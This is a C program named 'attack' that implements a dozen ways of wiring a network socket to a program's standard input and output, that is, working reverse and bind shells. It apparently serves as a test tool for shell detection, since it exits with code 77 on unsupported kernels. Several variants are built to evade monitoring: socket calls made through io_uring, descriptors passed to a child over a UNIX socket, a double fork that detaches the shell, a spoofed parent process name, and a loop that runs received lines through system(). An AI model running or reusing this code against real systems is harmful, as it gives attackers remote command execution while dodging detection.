/*
 * Ways of getting a network socket onto file descriptors 0, 1 and 2, each as an attacker's own program would do it.
 *
 *   attack WAY HOST PORT EXTRA COMMAND [ARGUMENT...]
 *
 * HOST is an IPv4 or IPv6 address, or "vsock:" and a context id, EXTRA means something else to each way ("-" where it means nothing).
 * Ends with 77 where the kernel lacks what the way needs, with 1 where a step failed.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <linux/vm_sockets.h> /* after sys/socket.h */

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
enum { UNSUPPORTED = 77 };

static _Noreturn void fail(const char *step)
{
	int lacking = errno == ENOSYS || errno == EPROTONOSUPPORT || errno == EAFNOSUPPORT || errno == ENOPROTOOPT;
	fprintf(stderr, "attack: %s: %s\n", step, strerror(errno));
	_exit(lacking ? UNSUPPORTED : 1);
}

/* The socket address of HOST and PORT; its length. */
static socklen_t address(const char *host, const char *port, struct sockaddr_storage *to)
{
	struct sockaddr_in *v4 = (void *)to;
	struct sockaddr_in6 *v6 = (void *)to;
	memset(to, 0, sizeof *to);
	if (!strncmp(host, "vsock:", 6)) {
		struct sockaddr_vm *vm = (void *)to;
		vm->svm_family = AF_VSOCK;
		vm->svm_cid = strtoul(host + 6, 0, 10);
		vm->svm_port = strtoul(port, 0, 10);
		return sizeof *vm;
	}
	if (inet_pton(AF_INET, host, &v4->sin_addr) == 1) {
		v4->sin_family = AF_INET;
		v4->sin_port = htons(atoi(port));
		return sizeof *v4;
	}
	if (inet_pton(AF_INET6, host, &v6->sin6_addr) != 1) {
		errno = EINVAL;
		fail("address");
	}
	v6->sin6_family = AF_INET6;
	v6->sin6_port = htons(atoi(port));
	return sizeof *v6;
}

/* A connected socket; it gets the lowest free descriptor. */
static int dial(const char *host, const char *port, int protocol)
{
	struct sockaddr_storage to;
	socklen_t length = address(host, port, &to);
	int s = socket(to.ss_family, SOCK_STREAM, protocol);
	if (s < 0)
		fail("socket");
	if (connect(s, (void *)&to, length))
		fail("connect");
	return s;
}

/* A listening socket, well above fd 2. */
static int listener(const char *host, const char *port)
{
	struct sockaddr_storage at;
	socklen_t length = address(host, port, &at);
	int one = 1, low = socket(at.ss_family, SOCK_STREAM, 0);
	int s = fcntl(low, F_DUPFD_CLOEXEC, 10);
	if (low < 0 || s < 0)
		fail("socket");
	close(low);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(s, (void *)&at, length) || listen(s, 64))
		fail("listen");
	return s;
}

/* Puts `s` on each of the descriptors whose digits stand in `which`, and nowhere else. */
static void put(int s, const char *which)
{
	int high = fcntl(s, F_DUPFD_CLOEXEC, 20);
	if (high < 0)
		fail("dup");
	close(s);
	for (; *which; which++)
		if (dup2(high, *which - '0') < 0)
			fail("dup2");
}

static _Noreturn void become(char **command)
{
	execvp(command[0], command);
	fail("exec");
}

/* One system call by way of io_uring, waited for; its result, or -errno. */
static int ring_call(const struct io_uring_sqe *what)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int ring = syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0) {
		if (errno == EPERM)
			errno = ENOSYS;
		fail("io_uring_setup");
	}
	size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(uint32_t);
	size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	int prot = PROT_READ | PROT_WRITE, how = MAP_SHARED | MAP_POPULATE;
	char *sq = mmap(0, sq_len, prot, how, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, cq_len, prot, how, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof *sqes, prot, how, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		fail("mmap of the ring");
	sqes[0] = *what;
	((uint32_t *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((uint32_t *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
		fail("io_uring_enter");
	int result = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[0].res;
	close(ring);
	return result;
}

/* socket(2) and connect(2), both as ring operations: no such system call is ever made. */
static int ring_dial(const char *host, const char *port)
{
	struct sockaddr_storage to;
	socklen_t length = address(host, port, &to);
	struct io_uring_sqe make = {
		.opcode = 45 /* IORING_OP_SOCKET, Linux 5.19 */, .fd = to.ss_family, .off = SOCK_STREAM,
	};
	int s = ring_call(&make);
	if (s < 0) {
		errno = s == -EINVAL ? ENOSYS : -s;
		fail("IORING_OP_SOCKET");
	}
	struct io_uring_sqe join = {
		.opcode = IORING_OP_CONNECT, .fd = s, .addr = (uintptr_t)&to, .off = length,
	};
	int result = ring_call(&join);
	if (result < 0) {
		errno = -result;
		fail("IORING_OP_CONNECT");
	}
	return s;
}

/* A child that has never made a socket gets the parent's through a UNIX socket (SCM_RIGHTS). */
static void hand_over(const char *host, const char *port, char **command)
{
	int pair[2];
	char byte = 'x', room[CMSG_SPACE(sizeof(int))] __attribute__((aligned(8))) = {0};
	struct iovec data = {&byte, 1};
	struct msghdr m = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair))
		fail("socketpair");
	pid_t child = fork();
	if (child == 0) {
		close(0);
		if (recvmsg(pair[1], &m, 0) != 1)
			fail("recvmsg");
		/* The received descriptor took the free number 0. */
		put(0, "012");
		become(command);
	}
	int s = dial(host, port, 0);
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof s);
	memcpy(CMSG_DATA(c), &s, sizeof s);
	if (sendmsg(pair[0], &m, 0) != 1)
		fail("sendmsg");
	close(s);
	waitpid(child, 0, 0);
}

/* A service that runs the command on each connection that it accepts; EXTRA connections, then it ends. */
static void serve(const char *host, const char *port, int connections, char **command)
{
	int at = listener(host, port);
	puts("listening");
	fflush(stdout);
	while (connections-- > 0) {
		int s = accept(at, 0, 0);
		if (s < 0)
			fail("accept");
		if (fork() == 0) {
			put(s, "012");
			become(command);
		}
		close(s);
		while (waitpid(-1, 0, WNOHANG) > 0)
			;
	}
	while (wait(0) > 0)
		;
}

/* As many descriptors as may be had, EXTRA at most, all copies of /dev/null. */
static void fill(int most)
{
	struct rlimit limit;
	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max = (rlim_t)most + 64;
	if (setrlimit(RLIMIT_NOFILE, &limit)) {
		getrlimit(RLIMIT_NOFILE, &limit);
		limit.rlim_cur = limit.rlim_max;
		setrlimit(RLIMIT_NOFILE, &limit);
	}
	int null = open("/dev/null", O_RDWR), have = 0;
	while (have < most && dup(null) >= 0)
		have++;
	/* Room for what comes after. */
	for (int fd = 20; fd < 24 && have > 24; fd++)
		close(fd);
	fprintf(stderr, "attack: %d descriptors open\n", have);
}

int main(int argc, char **argv)
{
	if (argc < 6) {
		fputs("usage: attack WAY HOST PORT EXTRA COMMAND [ARGUMENT...]\n", stderr);
		return 64;
	}
	const char *way = argv[1], *host = argv[2], *port = argv[3], *extra = argv[4];
	char **command = argv + 5;
	int null = open("/dev/null", O_RDWR | O_CLOEXEC);
	(void)null;

	if (!strcmp(way, "dup")) { /* on the descriptors named by EXTRA */
		put(dial(host, port, 0), extra);
		become(command);
	}
	if (!strcmp(way, "mptcp")) {
		put(dial(host, port, IPPROTO_MPTCP), "012");
		become(command);
	}
	if (!strcmp(way, "uring")) {
		put(ring_dial(host, port), "012");
		become(command);
	}
	if (!strcmp(way, "family")) { /* an unconnected socket of the address family EXTRA */
		int family = atoi(extra), s = socket(family, SOCK_STREAM, 0);
		if (s < 0 && (errno == ESOCKTNOSUPPORT || errno == EPROTONOSUPPORT))
			s = socket(family, SOCK_DGRAM, 0);
		if (s < 0)
			fail("socket");
		put(s, "012");
		become(command);
	}
	if (!strcmp(way, "reopen")) { /* no dup at all: a new socket takes the number that was closed */
		close(0);
		if (dial(host, port, 0) != 0)
			fail("socket on 0");
		become(command);
	}
	if (!strcmp(way, "two")) { /* the same with two sockets: commands on one, output (EXTRA's port) on another */
		close(0);
		if (dial(host, port, 0) != 0)
			fail("socket on 0");
		close(1);
		if (dial(host, extra, 0) != 1)
			fail("socket on 1");
		become(command);
	}
	if (!strcmp(way, "accept")) { /* bind shell: accept(2) itself fills the closed descriptor 0 */
		int at = listener(host, port);
		puts("listening");
		fflush(stdout);
		close(0);
		if (accept(at, 0, 0) != 0)
			fail("accept on 0");
		close(1);
		if (fcntl(0, F_DUPFD, 1) != 1)
			fail("copy on 1");
		become(command);
	}
	if (!strcmp(way, "scm")) {
		hand_over(host, port, command);
		return 0;
	}
	if (!strcmp(way, "setsid")) { /* double fork: the launcher is gone before the command starts */
		int s = dial(host, port, 0);
		if (fork())
			return 0;
		setsid();
		pid_t middle = getpid();
		if (fork())
			return 0;
		while (getppid() == middle)
			usleep(500);
		put(s, "012");
		become(command);
	}
	if (!strcmp(way, "late")) { /* the move comes after the exec, and nothing is exec'd until a line arrives */
		char line[4096];
		put(dial(host, port, 0), "012");
		setvbuf(stdin, 0, _IONBF, 0);
		while (fgets(line, sizeof line, stdin))
			if (system(line) == -1)
				return 1;
		return 0;
	}
	if (!strcmp(way, "serve")) {
		serve(host, port, atoi(extra), command);
		return 0;
	}
	if (!strcmp(way, "files")) {
		int s = dial(host, port, 0);
		fill(atoi(extra));
		put(s, "012");
		become(command);
	}
	if (!strcmp(way, "parent-name")) { /* the command's parent is called EXTRA */
		int s = dial(host, port, 0);
		prctl(PR_SET_NAME, extra);
		pid_t child = fork();
		if (child == 0) {
			put(s, "012");
			become(command);
		}
		close(s);
		waitpid(child, 0, 0);
		return 0;
	}
	fprintf(stderr, "attack: no way called %s\n", way);
	return 64;
}
